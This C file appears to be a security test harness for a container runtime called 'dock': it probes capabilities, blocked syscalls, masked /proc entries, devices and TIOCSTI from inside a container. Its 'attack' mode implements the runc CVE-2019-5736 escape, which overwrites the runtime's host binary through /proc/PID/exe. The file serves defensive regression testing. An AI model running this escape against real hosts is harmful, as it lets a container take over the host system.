/* checker.c: the attacker inside a container, for tests/int/security.sh.  Built static (musl-gcc
 * -static) by the test and copied into an image.  Reports facts, one "key value" line each; the
 * test decides what they must be.
 *
 *   checker              every check, in this order (fds first: nothing of ours is open yet)
 *   checker attack SECS  the runc CVE-2019-5736 attack: watch /proc for a process whose
 *                        executable is dock's, take an O_PATH fd of its /proc/PID/exe, and once it
 *                        has exited (no more ETXTBSY) reopen that for writing and write over it.
 *                        Reports exe_found, exe_open_write, exe_write. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>

static const char *
ename(int e)
{
	static const struct {
		int e;
		const char *n;
	} t[] = {{EPERM, "EPERM"}, {ENOENT, "ENOENT"}, {ESRCH, "ESRCH"}, {EIO, "EIO"},
		 {ENXIO, "ENXIO"}, {ENOEXEC, "ENOEXEC"}, {EBADF, "EBADF"}, {ENOMEM, "ENOMEM"},
		 {EACCES, "EACCES"}, {EFAULT, "EFAULT"}, {EBUSY, "EBUSY"}, {EEXIST, "EEXIST"},
		 {ENODEV, "ENODEV"}, {ENOTDIR, "ENOTDIR"}, {EINVAL, "EINVAL"}, {ENOTTY, "ENOTTY"},
		 {ETXTBSY, "ETXTBSY"}, {EROFS, "EROFS"}, {ENOSYS, "ENOSYS"}, {EOPNOTSUPP, "EOPNOTSUPP"},
		 {E2BIG, "E2BIG"}, {ENOSPC, "ENOSPC"}};
	static char buf[32];
	size_t i;
	for (i = 0; i < sizeof t / sizeof *t; i++)
		if (t[i].e == e)
			return t[i].n;
	snprintf(buf, sizeof buf, "E%d", e);
	return buf;
}

/* "ok" for r >= 0, else errno's name. */
static void
report(const char *key, long r)
{
	printf("%s %s\n", key, r >= 0 ? "ok" : ename(errno));
}

/* ---------------------------------------------------------------- at start: descriptors, cwd */

static void
check_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *de;
	int fds[256], n = 0, i, j;
	if (!d) {
		printf("fds %s\n", ename(errno));
		return;
	}
	while ((de = readdir(d)) && n < 256)
		if (de->d_name[0] != '.' && atoi(de->d_name) != dirfd(d))
			fds[n++] = atoi(de->d_name);
	closedir(d);
	for (i = 1; i < n; i++)
		for (j = i; j > 0 && fds[j - 1] > fds[j]; j--) {
			int t = fds[j];
			fds[j] = fds[j - 1];
			fds[j - 1] = t;
		}
	printf("fds ");
	for (i = 0; i < n; i++)
		printf("%s%d", i ? "," : "", fds[i]);
	printf("\n");
}

static void
check_cwd(void)
{
	char cwd[4096];
	long r = syscall(SYS_getcwd, cwd, sizeof cwd); /* the kernel's answer, unreachable or not */
	if (r < 0)
		printf("cwd %s\n", ename(errno));
	else
		printf("cwd %s\n", cwd);
}

/* ---------------------------------------------------------------- /proc/self/status */

static void
check_status(void)
{
	static const char *const keys[] = {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb",
					   "NoNewPrivs", "Seccomp", "Groups", NULL};
	char line[512];
	FILE *f = fopen("/proc/self/status", "r");
	size_t i;
	if (!f) {
		printf("status %s\n", ename(errno));
		return;
	}
	while (fgets(line, sizeof line, f)) {
		for (i = 0; keys[i]; i++) {
			size_t k = strlen(keys[i]);
			char *v, *end;
			if (strncmp(line, keys[i], k) || line[k] != ':')
				continue;
			v = line + k + 1;
			v += strspn(v, " \t");
			end = v + strlen(v);
			while (end > v && (end[-1] == '\n' || end[-1] == ' ' || end[-1] == '\t'))
				*--end = 0;
			printf("%s %s\n", keys[i], *v ? v : "-");
		}
	}
	fclose(f);
}

/* ---------------------------------------------------------------- system calls */

static sigjmp_buf jb;

static void
on_fault(int sig)
{
	siglongjmp(jb, sig);
}

/* getpid through the i386 ABI (int 0x80, number 20). */
static void
check_int80(void)
{
	struct sigaction sa, old_segv, old_ill;
	long ret = 0;
	int sig;
	memset(&sa, 0, sizeof sa);
	sa.sa_handler = on_fault;
	sigaction(SIGSEGV, &sa, &old_segv);
	sigaction(SIGILL, &sa, &old_ill);
	if ((sig = sigsetjmp(jb, 1)) == 0) {
		__asm__ volatile("int $0x80" : "=a"(ret) : "a"(20L) : "memory");
		if (ret < 0 && ret > -4096)
			printf("int80 %s\n", ename((int)-ret));
		else
			printf("int80 ok\n");
	} else {
		printf("int80 signal%d\n", sig);
	}
	sigaction(SIGSEGV, &old_segv, NULL);
	sigaction(SIGILL, &old_ill, NULL);
}

static void
check_syscalls(void)
{
	char params[120];
	memset(params, 0, sizeof params);
	/* arguments that would fail harmlessly if the call got through (a bad magic, no memory) */
	report("keyctl", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0));
	report("unshare_user", unshare(CLONE_NEWUSER));
	report("mount", mount("none", "/nonexistent-dock-checker", "tmpfs", 0, NULL));
	report("bpf", syscall(SYS_bpf, 5 /* BPF_PROG_LOAD */, NULL, 0));
	report("userfaultfd", syscall(SYS_userfaultfd, 0));
	report("io_uring_setup", syscall(425, 0, params));
	report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0xffff0000UL));
	report("init_module", syscall(SYS_init_module, NULL, 0, ""));
	report("reboot", syscall(SYS_reboot, 0, 0, 0, NULL));
	report("clone3", syscall(435, NULL, 0));
	report("x32_getpid", syscall(0x40000000 | 39));
	check_int80();
}

/* ---------------------------------------------------------------- the filesystem */

static void
check_proc(void)
{
	struct stat st;
	struct statvfs vs;
	char b[16];
	int fd;
	static const char *const masked[] = {"kcore", "keys", "timer_list", "sched_debug", NULL};
	size_t i;
	/* masked: /dev/null over it (or absent from this kernel); "exposed" when it can be read */
	for (i = 0; masked[i]; i++) {
		char p[64];
		snprintf(p, sizeof p, "/proc/%s", masked[i]);
		fd = open(p, O_RDONLY);
		if (fd < 0)
			printf("%s %s\n", masked[i], ename(errno));
		else if (fstat(fd, &st) == 0 && S_ISCHR(st.st_mode))
			printf("%s chr%u:%u%s\n", masked[i], major(st.st_rdev), minor(st.st_rdev),
			       read(fd, b, sizeof b) > 0 ? " data" : "");
		else
			printf("%s %s\n", masked[i], read(fd, b, sizeof b) > 0 ? "exposed" : "empty");
		if (fd >= 0)
			close(fd);
	}
	fd = open("/proc/sys/kernel/hostname", O_WRONLY);
	report("procsys_write", fd);
	if (fd >= 0)
		close(fd);
	if (statvfs("/proc/sys", &vs) == 0)
		printf("procsys_ro %d\n", (vs.f_flag & ST_RDONLY) != 0);
	fd = open("/proc/sysrq-trigger", O_WRONLY);
	report("sysrq_write", fd);
	if (fd >= 0)
		close(fd);
}

static int
cmpstr(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

static void
check_dev(void)
{
	DIR *d = opendir("/dev");
	struct dirent *de;
	char *names[256];
	int n = 0, i, blocks = 0;
	if (!d) {
		printf("dev %s\n", ename(errno));
		return;
	}
	while ((de = readdir(d)) && n < 256) {
		struct stat st;
		if (de->d_name[0] == '.')
			continue;
		names[n++] = strdup(de->d_name);
		if (fstatat(dirfd(d), de->d_name, &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISBLK(st.st_mode))
			blocks++;
	}
	closedir(d);
	qsort(names, (size_t)n, sizeof *names, cmpstr);
	printf("dev ");
	for (i = 0; i < n; i++) {
		printf("%s%s", i ? "," : "", names[i]);
		free(names[i]);
	}
	printf("\ndev_blockdevs %d\n", blocks);
}

/* ---------------------------------------------------------------- the terminal */

static void
check_tty(void)
{
	char stat[1024], c = 'x';
	int fd = open("/proc/self/stat", O_RDONLY), tty_nr = -1;
	ssize_t n = fd >= 0 ? read(fd, stat, sizeof stat - 1) : -1;
	if (fd >= 0)
		close(fd);
	if (n > 0) {
		char *p;
		stat[n] = 0;
		p = strrchr(stat, ')');
		/* ") S ppid pgrp session tty_nr" */
		if (p && sscanf(p + 2, "%*c %*d %*d %*d %d", &tty_nr) != 1)
			tty_nr = -1;
	}
	printf("ctty %d\n", tty_nr);
	printf("stdin_tty %d\n", isatty(0));
	fd = open("/dev/tty", O_RDWR | O_NOCTTY);
	report("devtty", fd);
	if (fd >= 0)
		close(fd);
	report("tiocsti", ioctl(0, TIOCSTI, &c));
}

/* ---------------------------------------------------------------- the /proc/PID/exe attack */

static int
attack(int secs)
{
	time_t end = time(NULL) + secs;
	char link[512], path[64];
	int fd = -1, w;
	pid_t self = getpid();
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("attack watching\n");
	while (fd < 0 && time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		while (d && fd < 0 && (de = readdir(d))) {
			int pid = atoi(de->d_name);
			ssize_t n;
			if (pid <= 1 || pid == self)
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			n = readlink(path, link, sizeof link - 1);
			if (n <= 0)
				continue; /* not dumpable (yet), or gone */
			link[n] = 0;
			if (!strstr(link, "dock"))
				continue;
			fd = open(path, O_PATH | O_CLOEXEC);
			printf("exe_found %s %s\n", link, fd >= 0 ? "ok" : ename(errno));
		}
		if (d)
			closedir(d);
	}
	if (fd < 0) {
		printf("exe_found none\n");
		return 0;
	}
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	do {
		w = open(path, O_WRONLY | O_CLOEXEC);
		if (w < 0 && errno == ETXTBSY)
			usleep(1000);
	} while (w < 0 && errno == ETXTBSY && time(NULL) < end);
	report("exe_open_write", w);
	if (w >= 0) {
		static const char evil[] = "#!/bin/sh\necho pwned by the container\n";
		report("exe_write", pwrite(w, evil, sizeof evil - 1, 0));
		report("exe_truncate", ftruncate(w, sizeof evil - 1));
		close(w);
	}
	return 0;
}

int
main(int argc, char **argv)
{
	check_fds(); /* before anything of ours is open */
	if (argc > 2 && !strcmp(argv[1], "attack"))
		return attack(atoi(argv[2]));
	check_cwd();
	check_status();
	check_syscalls();
	check_proc();
	check_dev();
	check_tty();
	printf("done 1\n");
	return 0;
}
